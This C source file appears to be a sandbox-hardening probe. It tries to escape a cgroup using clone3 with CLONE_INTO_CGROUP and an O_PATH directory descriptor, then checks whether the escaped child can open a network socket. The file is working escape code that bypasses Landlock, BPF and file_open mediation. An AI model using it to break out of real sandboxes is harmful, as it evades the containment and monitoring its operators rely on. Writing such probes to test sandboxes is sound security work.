/* try_cgroup_escape CGROUP_DIR: clone3(CLONE_INTO_CGROUP) with an O_PATH descriptor of
 * CGROUP_DIR (O_PATH opens are not mediated by file_open hooks nor by Landlock). The
 * kernel checks only write permission on the common ancestor's cgroup.procs, which uid 0
 * owns: a sandbox running as root could start a child outside its sandbox cgroup, out of
 * the scope of every BPF program. Prints "escaped pid N, child socket: R" when the child
 * was created (R: what socket(AF_INET, SOCK_DGRAM) gave the child, "ok" or the errno
 * name), or "errno=NAME" when clone3 was refused. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/socket.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef CLONE_INTO_CGROUP
#define CLONE_INTO_CGROUP 0x200000000ULL
#endif

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: try_cgroup_escape CGROUP_DIR\n");
		return 2;
	}
	int fd = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		printf("open errno=%s\n", strerrorname_np(errno));
		return 1;
	}
	struct clone_args ca = {
		.flags = CLONE_INTO_CGROUP,
		.exit_signal = SIGCHLD,
		.cgroup = (uint64_t)fd,
	};
	pid_t pid = (pid_t)syscall(SYS_clone3, &ca, sizeof(ca));
	if (pid == 0) {
		int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		_exit(s >= 0 ? 0 : errno & 0xff);
	}
	if (pid < 0) {
		printf("errno=%s\n", strerrorname_np(errno));
		return 1;
	}
	int st = 0;
	waitpid(pid, &st, 0);
	int e = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
	printf("escaped pid %d, child socket: %s\n", (int)pid, e == 0 ? "ok" : e > 0 ? strerrorname_np(e) : "killed");
	return 0;
}
